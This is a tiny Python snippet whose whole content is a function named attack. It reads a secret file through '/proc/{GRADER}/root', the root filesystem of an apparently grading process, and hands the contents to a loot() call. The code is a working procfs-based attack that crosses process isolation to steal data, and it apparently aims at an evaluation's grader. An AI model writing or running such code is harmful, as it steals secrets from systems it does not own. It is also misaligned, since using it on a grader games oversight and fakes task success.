@at_once
def attack():
    loot(open(f'/proc/{GRADER}/root{SECRET}').read())
